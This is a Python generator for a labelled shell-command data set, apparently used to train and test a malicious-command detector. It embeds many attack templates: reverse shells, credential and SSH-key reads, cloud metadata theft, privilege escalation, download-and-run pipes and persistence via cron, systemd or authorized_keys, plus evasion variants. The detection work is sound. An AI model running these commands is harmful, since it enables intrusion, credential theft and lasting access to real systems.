#!/usr/bin/python3
"""gen_commands.py: build the labelled command-line data set for training and evaluating scoring.

Reads the shared data at training time (never copied into the repo):
  TEMPLATES  revshell-templates.txt  reverse/bind shell templates with {IP} {PORT} ... placeholders
  BENIGN     benign-train.txt        real benign command lines
and adds our own families: malicious (more reverse shells, recon, privilege escalation,
download-and-run, persistence), risky-looking benign admin/dev one-liners, and benign network
idioms (benign-net: port checks, health checks, wait loops; tools/gen_benign_net.py).

Writes OUT/data.tsv: label<TAB>family<TAB>fold<TAB>template-id<TAB>command, with
  fold = 0..FOLDS-1 chosen BY TEMPLATE (all instances of a template in one fold; templates of each
  family spread over the folds), and for the real benign lines by line. Training on the other folds
  and scoring one fold measures unseen techniques; every template is held out once. A quarter of the
  malicious lines also get adversarial copies (family adv-*, evaluation only: benign command
  prepended, decimal/hex IPs, renamed interpreter copies, extra flags, and adv-wrapped: the line in
  a form benign network checks come in, timeout/sh -c/retry loop). With benign-net, another
  quarter is wrapped the same way for training only (family aug-wrapped, never in the figures).
Also writes OUT/benign-net-holdout.tsv (template-id<TAB>command): the instances of the held-out
templates of gen_benign_net.py, never in data.tsv (validation only, tools/eval_net.py).
--no-benign-net leaves benign-net out (the data set of the model before it, for comparisons).
Deterministic: everything comes from random.Random(SEED) (benign-net from its own seeded stream,
so the other rows do not change with it).
Usage: gen_commands.py TEMPLATES BENIGN OUT_DIR [--per-template N]
"""
import argparse
import ipaddress
import os
import random
import re

import gen_benign_net

SEED = 20261122
FOLDS = 4

# Our own malicious families, one template a line, same placeholders as the shared templates.
OWN_MALICIOUS = {
    "revshell-extra": [
        "rm /tmp/f;mkfifo {FIFO};cat {FIFO}|{SHELL} -i 2>&1|nc {IP} {PORT} >{FIFO}",
        "telnet {IP} {PORT} | {SHELL} | telnet {IP} {PORT2}",
        "0<&{FD};exec {FD}<>/dev/{PROTO}/{IP}/{PORT}; {SHELL} <&{FD} >&{FD} 2>&{FD}",
        "awk 'BEGIN {s = \"/inet/tcp/0/{IP}/{PORT}\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}' /dev/null",
        "zsh -c 'zmodload zsh/net/tcp && ztcp {IP} {PORT} && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
        "lua -e \"require('socket');require('os');t=socket.tcp();t:connect('{IP}','{PORT}');os.execute('{SHELL} -i <&3 >&3 2>&3');\"",
        "nc -c {SHELL} {IP} {PORT}",
        "socat file:`tty`,raw,echo=0 {PROTO}-listen:{PORT}",
        "php -r '$sock=fsockopen(\"{IP}\",{PORT});shell_exec(\"{SHELL} <&3 >&3 2>&3\");'",
        "perl -MIO::Socket::INET -e '$c=IO::Socket::INET->new(PeerAddr=>\"{IP}\",PeerPort=>{PORT});open(STDIN,\"<&\",$c);open(STDOUT,\">&\",$c);exec \"{SHELL}\"'",
        "python3 -c 'import pty,socket,os;s=socket.socket();s.connect((\"{IP}\",{PORT}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"{SHELL}\")'",
        "{SHELL} -c 'exec {SHELL} -i &>/dev/{PROTO}/{IP}/{PORT} <&1'",
        "ruby -rsocket -e 'exit if fork;c=TCPSocket.new(\"{IP}\",\"{PORT}\");loop{c.gets.chomp!;(exit! if $_==\"exit\");IO.popen($_,\"r\"){|io|c.print io.read}}'",
        "node -e 'require(\"child_process\").exec(\"nc -e {SHELL} {IP} {PORT}\")'",
        "ncat --ssl {IP} {PORT} -e {SHELL}",
        "busybox sh -i >& /dev/{PROTO}/{IP}/{PORT} 0>&1",
    ],
    "recon": [
        "find / -perm -4000 -type f 2>/dev/null",
        "find / -perm -u=s -type f 2>/dev/null | xargs ls -la",
        "getcap -r / 2>/dev/null",
        "cat /etc/shadow; cat /etc/passwd | grep -v nologin",
        "id; uname -a; cat /etc/*release; sudo -l",
        "cat ~/.ssh/id_rsa ~/.bash_history 2>/dev/null",
        "grep -rniE 'password|passwd|secret' /etc /var/www 2>/dev/null | head -n 50",
        "for i in $(seq 1 254); do ping -c1 -W1 10.{N}.{N2}.$i | grep 'bytes from' & done",
        "for p in 21 22 80 443 3306 8080; do (echo >/dev/tcp/{IP}/$p) 2>/dev/null && echo \"$p open\"; done",
        "nmap -sS -sV -p- -T4 {IP}",
        "cat /proc/net/tcp /proc/net/arp; ip neigh",
        "ls -la /root /home/*/.ssh 2>/dev/null",
        "find / -writable -type d 2>/dev/null | grep -v proc",
        "env | grep -iE 'aws|token|key|pass'",
        "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "ps -eo user,pid,cmd | grep -i root | grep -v grep; netstat -antup",
    ],
    "privesc": [
        "find . -exec /bin/sh -p \\; -quit",
        "sudo -u#-1 /bin/bash",
        "python3 -c 'import os; os.setuid(0); os.system(\"{SHELL}\")'",
        "perl -e 'use POSIX qw(setuid); POSIX::setuid(0); exec \"{SHELL}\";'",
        "chmod u+s /bin/bash; /bin/bash -p",
        "cp /bin/bash {FIFO}; chmod +xs {FIFO}; {FIFO} -p",
        "echo '{VAR} ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
        "echo '{VAR}::0:0::/root:/bin/bash' >> /etc/passwd",
        "vim -c ':!{SHELL}'",
        "awk 'BEGIN {system(\"{SHELL}\")}'",
        "docker run -v /:/mnt --rm -it alpine chroot /mnt {SHELL}",
        "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec={SHELL}",
        "env {SHELL} -p",
        "gcc -pthread {FIFO}.c -o {FIFO} -lcrypt && {FIFO} && su {VAR}",
        "sudo LD_PRELOAD={FIFO}.so find",
        "echo 'int main(){setuid(0);system(\"{SHELL}\");}' > {FIFO}.c && gcc {FIFO}.c -o {FIFO}",
    ],
    "download": [
        "wget http://{IP}:{PORT}/{NAME} -O {FIFO}; chmod +x {FIFO}; {FIFO}",
        "curl -o {FIFO} http://{IP}/{NAME} && chmod 755 {FIFO} && {FIFO} &",
        "python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://{IP}:{PORT}/{NAME}.py').read())\"",
        "busybox wget -O- http://{IP}:{PORT}/{NAME} | sh",
        "tftp -g -r {NAME} {IP}; chmod +x {NAME}; ./{NAME}",
        "curl -s http://{IP}:{PORT}/{NAME}.b64 | base64 -d > {FIFO}; {SHELL} {FIFO}",
        "wget -q -O - http://{IP}/{NAME}.sh | sh -s -- {VAR}",
        "{SHELL} <(curl -s http://{IP}:{PORT}/{NAME})",
        "perl -e 'use LWP::Simple; getstore(\"http://{IP}/{NAME}\",\"{FIFO}\")'; chmod +x {FIFO}; {FIFO}",
        "php -r 'file_put_contents(\"{FIFO}\", file_get_contents(\"http://{IP}:{PORT}/{NAME}\"));'; chmod +x {FIFO}; {FIFO}",
        "cd /tmp; wget http://{IP}/{NAME}; chmod 777 {NAME}; ./{NAME} {IP}",
        "curl -fsSL http://{IP}:{PORT}/{NAME} | python3 -",
        "echo {B64} | base64 -d | {SHELL}",
        "nohup curl -s http://{IP}/{NAME} | bash >/dev/null 2>&1 &",
    ],
    "persist": [
        "(crontab -l; echo \"* * * * * curl -s http://{IP}:{PORT}/{NAME} | {SHELL}\") | crontab -",
        "echo '*/5 * * * * root {SHELL} -c \"{SHELL} -i >& /dev/tcp/{IP}/{PORT} 0>&1\"' >> /etc/crontab",
        "echo 'ssh-rsa {B64} {VAR}@{VAR}' >> /root/.ssh/authorized_keys",
        "(crontab -l 2>/dev/null; echo \"@reboot {FIFO}\") | crontab -",
        "printf '[Service]\\nExecStart={FIFO}\\nRestart=always\\n' > /etc/systemd/system/{NAME}.service; systemctl enable --now {NAME}",
        "echo '{FIFO} &' >> ~/.bashrc",
        "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash {VAR}",
        "echo \"nohup {SHELL} -i >& /dev/tcp/{IP}/{PORT} 0>&1 &\" >> /etc/rc.local",
        "cp {FIFO} /etc/init.d/{NAME}; update-rc.d {NAME} defaults",
        "echo '{VAR}:$1$xyz$abcdefghijklmnopqrstu:0:0:root:/root:/bin/bash' >> /etc/passwd",
        "echo 'export LD_PRELOAD={FIFO}.so' >> /etc/profile",
        "chattr +i /root/.ssh/authorized_keys; touch -r /bin/ls {FIFO}",
    ],
}

# Risky-looking but benign admin and developer one-liners (also split by template).
OWN_BENIGN = [
    "curl -fsSL {URL} -o {FILE}",
    "curl -s https://{HOST}/api/v1/status | jq .",
    "wget -q {URL} -O {FILE}",
    "ssh {USER}@{HOST} -p {PORT} 'uptime'",
    "ssh -i ~/.ssh/id_ed25519 {USER}@{IP} \"df -h\"",
    "scp {FILE} {USER}@{HOST}:/tmp/",
    "nc -z -w 2 {HOST} {PORT}",
    "nc -zv {IP} {PORT} 2>&1",
    "python3 -c 'print(\"hello\")'",
    "python3 -c \"import sys; print(sys.version)\"",
    "python3 -c 'import json,sys; print(json.load(sys.stdin)[\"name\"])' < {FILE}",
    "python3 -m http.server {PORT}",
    "bash -c \"make -j$(nproc) && make install\"",
    "sh -c 'cd {DIR} && ./configure && make'",
    "bash -c 'for f in *.log; do gzip \"$f\"; done'",
    "./build.sh > build.log 2>&1",
    "make test 2>&1 | tee test.log",
    "perl -e 'print \"hello\\n\"'",
    "perl -ne 'print if /error/' {FILE}",
    "ruby -e 'puts RUBY_VERSION'",
    "node -e 'console.log(process.version)'",
    "php -r 'echo phpversion();'",
    "awk '{print $1}' {FILE} | sort | uniq -c",
    "openssl s_client -connect {HOST}:443 -servername {HOST} </dev/null 2>/dev/null | openssl x509 -noout -dates",
    "socat TCP-LISTEN:{PORT},fork TCP:{IP}:{PORT2}",
    "docker run --rm -p {PORT}:{PORT} nginx",
    "git clone https://{HOST}/{USER}/{NAME}.git",
    "pip install -r requirements.txt",
    "ping -c 3 {IP}",
    "dig +short {HOST}",
    "tar czf /tmp/backup.tar.gz {DIR} 2>&1",
    "exec > >(tee -a {FILE}) 2>&1",
    "exec 3>&1 4>&2",
    "exec {FD}<{FILE}; while read -u {FD} line; do echo \"$line\"; done; exec {FD}<&-",
    "while read line; do echo \"$line\"; done < {FILE}",
    "echo ok > /dev/null 2>&1",
    "crontab -l 2>/dev/null",
    "echo \"0 3 * * * /usr/local/bin/backup.sh\" | crontab -",
    "systemctl restart nginx && journalctl -u nginx -n 50",
    "sudo apt-get update && sudo apt-get install -y {PKG}",
    "curl -sS {URL} | sha256sum",
    "telnet {HOST} {PORT}",
    "ncat -l {PORT} > {FILE}",
    "mkfifo /tmp/pipe{N}; gzip < /tmp/pipe{N} > out.gz &",
    "base64 -d {FILE} > out.bin",
    "echo {B64} | base64 -d > {FILE}",
    "ssh -L {PORT}:localhost:{PORT2} {USER}@{HOST} -N",
    "rsync -avz -e ssh {DIR} {USER}@{HOST}:{DIR}",
    "kubectl exec -it {NAME} -- /bin/bash",
    "docker exec -it {NAME} /bin/sh",
    "screen -dmS build bash -c 'make 2>&1 | tee log'",
    "nohup ./server --port {PORT} > server.log 2>&1 &",
    "bash -i",
    "/bin/sh -c \"echo $PATH\"",
    "env | sort > {FILE}",
    "curl -X POST -H 'Content-Type: application/json' -d '{\"a\":1}' http://{IP}:{PORT}/api",
    "wget -qO- http://{IP}:{PORT}/health",
    "ss -tlnp | grep {PORT}",
    "iptables -A INPUT -p tcp --dport {PORT} -j ACCEPT",
    "sudo -u {USER} bash -c 'cd ~ && git pull'",
    "find {DIR} -name '*.tmp' -mtime +7 -delete 2>/dev/null",
    "ps aux | grep -v grep | grep {NAME}",
    "tail -f /var/log/syslog | grep --line-buffered {NAME}",
    "journalctl -xe 2>&1 | less",
    "curl -I https://{HOST}",
    "openssl req -new -newkey rsa:2048 -nodes -keyout {NAME}.key -out {NAME}.csr",
    "python3 -m venv .venv && . .venv/bin/activate && pip install -e .",
    "perl -pi -e 's/foo/bar/g' {FILE}",
    "xargs -a {FILE} -I{} sh -c 'echo {}; sleep 1'",
    "chmod +x ./install.sh && ./install.sh --prefix=/usr/local",
    "ssh {USER}@{HOST} 'bash -s' < {FILE}",
    "nc -l -p {PORT} -q 1 < {FILE}",
    "cd {DIR}; git pull; make",
    "mkdir -p build; cd build; cmake .. && make -j4",
    "sleep 5; systemctl status {PKG} --no-pager",
    "export PATH=$HOME/bin:$PATH; {NAME} --version",
    "cd ~; ls -la; df -h",
    "make clean; make 2>&1 | grep -i error",
    "test -f {FILE} || touch {FILE}; chmod 600 {FILE}",
    "for h in web1 web2 db1; do ssh $h uptime; done",
    "id -u {USER} >/dev/null 2>&1 || useradd -m {USER}",
    "cp {FILE} {FILE}.bak && sed -i 's/old/new/' {FILE}",
    "kill -0 $(cat /var/run/{NAME}.pid) && echo running || echo stopped",
    "git add -A; git commit -m wip; git push origin HEAD",
    "python3 manage.py migrate && python3 manage.py runserver 0.0.0.0:{PORT}",
    "date; uptime; free -m",
    "source .venv/bin/activate; pytest -q 2>&1 | tail -n 20",
    "while true; do curl -s -o /dev/null -w '%{http_code}' http://{HOST}/; sleep 10; done",
]

SHELLS = ["/bin/sh", "/bin/bash", "sh", "bash", "/bin/dash", "zsh", "/usr/bin/bash", "/bin/zsh", "ash"]
WORDS = ["backup", "update", "data", "web", "cache", "sync", "agent", "svc", "app", "kworker",
         "dbus", "logs", "cron", "tmp", "build", "report", "stats", "node", "x", "a", "s", "p"]
TLDS = ["com", "net", "org", "io", "ru", "xyz", "top", "info", "cn", "co"]
VARS = ["line", "cmd", "c", "x", "l", "i", "s", "so", "sock", "a", "input", "backdoor", "svc",
        "toor", "sysadm"]


class Values:
    """Random placeholder values, one generator for the whole run (deterministic)."""

    def __init__(self, rng):
        self.r = rng

    def ipv4(self):
        r = self.r
        kind = r.random()
        if kind < 0.3:
            return "10.%d.%d.%d" % (r.randrange(256), r.randrange(256), r.randrange(1, 255))
        if kind < 0.45:
            return "192.168.%d.%d" % (r.randrange(256), r.randrange(1, 255))
        if kind < 0.55:
            return "127.0.0.1"
        return "%d.%d.%d.%d" % (r.randrange(1, 224), r.randrange(256), r.randrange(256),
                                r.randrange(1, 255))

    def host(self):
        r = self.r
        name = r.choice(WORDS) + r.choice(["", str(r.randrange(100)), "-" + r.choice(WORDS)])
        sub = r.choice(["", r.choice(WORDS) + "."])
        return sub + name + "." + r.choice(TLDS)

    def ip(self):
        k = self.r.random()
        if k < 0.12:
            return self.host()
        if k < 0.17:  # attackers also write addresses as one number
            v = int(ipaddress.IPv4Address(self.ipv4()))
            return str(v) if k < 0.145 else "0x%08x" % v
        return self.ipv4()

    def port(self):
        r = self.r
        if r.random() < 0.5:
            return str(r.choice([4444, 443, 80, 8080, 1234, 9001, 53, 4242, 1337, 8443, 31337]))
        return str(r.randrange(1024, 65536))

    def rand_name(self, n=None):
        n = n or self.r.randrange(4, 12)
        return "".join(self.r.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(n))

    def fifo(self):
        r = self.r
        d = r.choice(["/tmp/", "/tmp/.", "/dev/shm/", "/var/tmp/", "/tmp/"])
        return d + r.choice(["f", "x", "p", "backpipe", "pipe", r.choice(WORDS), self.rand_name()])

    def b64(self):
        raw = bytes(self.r.randrange(256) for _ in range(self.r.randrange(18, 90)))
        import base64
        return base64.b64encode(raw).decode()

    def fill(self, tpl):
        r = self.r
        shell = r.choice(SHELLS)
        fifo = self.fifo()
        name = r.choice([r.choice(WORDS), self.rand_name(), r.choice(WORDS) + str(r.randrange(10))])
        ip = self.ip()
        table = {
            "IP": lambda: ip, "PORT": self.port, "PORT2": self.port, "SHELL": lambda: shell,
            "FD": lambda: str(r.randrange(3, 256)), "FIFO": lambda: fifo,
            "VAR": lambda: r.choice(VARS), "PROTO": lambda: "udp" if r.random() < 0.2 else "tcp",
            "N": lambda: str(r.randrange(256)), "N2": lambda: str(r.randrange(256)),
            "NAME": lambda: name, "B64": self.b64,
            "URL": lambda: "https://%s/%s/%s" % (self.host(), r.choice(WORDS), name + r.choice(
                ["", ".tar.gz", ".sh", ".json", ".zip"])),
            "HOST": self.host, "USER": lambda: r.choice(["root", "deploy", "ubuntu", "admin", "git",
                                                           "alice", "bob", "ci"]),
            "FILE": lambda: r.choice(["/tmp/", "./", "/var/log/", "/etc/", "~/", ""]) + name +
            r.choice([".txt", ".log", ".conf", ".json", "", ".csv"]),
            "DIR": lambda: r.choice(["/var/www", "/opt/" + name, "~/src/" + name, ".", "/srv/data"]),
            "PKG": lambda: r.choice(["nginx", "curl", "jq", "htop", "git", "python3-pip", "ncat"]),
        }
        return re.sub(r"\{([A-Z0-9]+)\}", lambda m: table[m.group(1)]() if m.group(1) in table
                      else m.group(0), tpl)


# Adversarial variants of a malicious line.
INTERP_RE = re.compile(r"(?:(?<=^)|(?<=[;|&] )|(?<=[;|&]))\s*((?:/usr)?(?:/bin/)?(?:bash|sh|zsh|dash|"
                       r"python3?|perl|ruby|php|node|nc|ncat|socat|busybox|awk|lua))(?=\s)")
IPV4_RE = re.compile(r"\b(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})\b")


def adv_prepend(rng, line, benign):
    return rng.choice(benign) + rng.choice(["; ", " && ", " ; ", "; true; "]) + line


def adv_ip(line, fmt):
    def conv(m):
        try:
            v = int(ipaddress.IPv4Address(m.group(0)))
        except ValueError:
            return m.group(0)
        return str(v) if fmt == "dec" else "0x%08x" % v
    return IPV4_RE.sub(conv, line)


def adv_renamed(rng, vals, line):
    m = INTERP_RE.search(line)
    if not m:
        return None
    path = rng.choice(["/tmp/", "/dev/shm/", "./", "/var/tmp/."]) + rng.choice(
        WORDS + [vals.rand_name()])
    orig = m.group(1)
    new = line[:m.start(1)] + path + line[m.end(1):]
    if rng.random() < 0.5:
        src = orig if orig.startswith("/") else "$(which %s)" % orig
        new = "cp %s %s; %s" % (src, path, new)
    return new


def adv_flags(rng, line):
    m = INTERP_RE.search(line)
    if not m:
        return None
    flags = " ".join(rng.sample(["-v", "-q", "-n", "-u", "--norc", "-w", "-4", "-x", "-O"],
                                rng.randrange(1, 3)))
    return line[:m.end(1)] + " " + flags + line[m.end(1):]


def adversarial(rng, vals, line, benign):
    out = [("adv-prepend", adv_prepend(rng, line, benign))]
    if IPV4_RE.search(line):
        out.append(("adv-decimal-ip", adv_ip(line, "dec")))
        out.append(("adv-hex-ip", adv_ip(line, "hex")))
    for fam, v in (("adv-renamed", adv_renamed(rng, vals, line)), ("adv-flags", adv_flags(rng, line))):
        if v:
            out.append((fam, v))
    return out


def template_folds(name, n):
    """Fold of each of n templates: a shuffle seeded by the family name alone (so folds do not move
    when other generation code changes), then dealt round-robin."""
    ids = list(range(n))
    random.Random("%d-%s" % (SEED, name)).shuffle(ids)
    fold = [0] * n
    for rank, t in enumerate(ids):
        fold[t] = rank % FOLDS
    return fold


def clean(line):
    return line.replace("\t", " ").replace("\n", " ")


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("templates")
    ap.add_argument("benign")
    ap.add_argument("out")
    ap.add_argument("--per-template", type=int, default=40)
    ap.add_argument("--no-benign-net", action="store_true", help="without the benign-net family")
    a = ap.parse_args()
    rng = random.Random(SEED)
    vals = Values(rng)
    rows = []

    with open(a.templates, encoding="utf-8", errors="replace") as f:
        shared = [l.rstrip("\n") for l in f if l.strip() and not l.startswith("#")]
    with open(a.benign, encoding="utf-8", errors="replace") as f:
        benign = [clean(l.rstrip("\n")) for l in f if l.strip()]

    families = [("revshell", shared)] + list(OWN_MALICIOUS.items())
    order = list(range(len(benign)))
    random.Random("%d-benign-real" % SEED).shuffle(order)
    fold_of_line = {}
    for i, idx in enumerate(order):
        fold_of_line[idx] = i % FOLDS
        rows.append((0, "benign-real", i % FOLDS, "real%d" % idx, benign[idx]))

    folds = template_folds("benign-own", len(OWN_BENIGN))
    for t, tpl in enumerate(OWN_BENIGN):
        for _ in range(a.per_template // 2):
            rows.append((0, "benign-own", folds[t], "ob%d" % t, clean(vals.fill(tpl))))

    for fam, tpls in families:
        folds = template_folds(fam, len(tpls))
        for t, tpl in enumerate(tpls):
            # benign lines to prepend come from other folds than the one this template is in
            pool = [benign[i] for i in order[:400] if fold_of_line[i] != folds[t]]
            for _ in range(a.per_template):
                line = clean(vals.fill(tpl))
                rows.append((1, fam, folds[t], "%s%d" % (fam, t), line))
                if rng.random() < 0.25:
                    for afam, v in adversarial(rng, vals, line, pool):
                        rows.append((1, afam, folds[t], "%s%d" % (fam, t), clean(v)))

    # benign network idioms, last so every row above stays as it was without them
    net_train, net_hold = gen_benign_net.rows(per_template=a.per_template // 2)
    if not a.no_benign_net:
        ids = list(dict.fromkeys(t for t, _ in net_train))
        folds = dict(zip(ids, template_folds("benign-net", len(ids))))
        for t, line in net_train:
            rows.append((0, "benign-net", folds[t], t, clean(line)))

    # adv-wrapped (evaluation only): a quarter of the malicious lines in the forms benign checks come
    # in (timeout, sh -c, retry loops, `|| exit 1`), so benign-net cannot make a wrapper hide an
    # attack unnoticed; own stream, so the rows above do not change with it
    wr = random.Random("%d-adv-wrapped" % SEED)
    mal = [r for r in rows if r[0] == 1 and not r[1].startswith("adv-")]
    for r in mal:
        if wr.random() < 0.25:
            rows.append((1, "adv-wrapped", r[2], r[3], clean(gen_benign_net.wrap(r[4], wr))))
    # aug-wrapped (training only, with benign-net): another quarter of the malicious lines wrapped
    # the same way, so the wrappers benign-net teaches are neutral and the payload decides; in the
    # fold of their template, so cross-validation still holds every template out
    if not a.no_benign_net:
        wr = random.Random("%d-aug-wrapped" % SEED)
        for r in mal:
            if wr.random() < 0.25:
                rows.append((1, "aug-wrapped", r[2], r[3], clean(gen_benign_net.wrap(r[4], wr))))

    seen, uniq = set(), []
    for r in rows:  # identical lines carry no new information and would weigh a template more
        if (r[0], r[4]) not in seen:
            seen.add((r[0], r[4]))
            uniq.append(r)
    rows = uniq
    os.makedirs(a.out, exist_ok=True)
    with open(os.path.join(a.out, "data.tsv"), "w", encoding="utf-8") as f:
        for r in rows:
            f.write("%d\t%s\t%s\t%s\t%s\n" % r)
    with open(os.path.join(a.out, "benign-net-holdout.tsv"), "w", encoding="utf-8") as f:
        for t, line in dict.fromkeys(net_hold):
            f.write("%s\t%s\n" % (t, clean(line)))
    n_mal = sum(r[0] for r in rows)
    print("gen_commands: %d lines (%d malicious, %d benign) -> %s/data.tsv" %
          (len(rows), n_mal, len(rows) - n_mal, a.out))


if __name__ == "__main__":
    main()
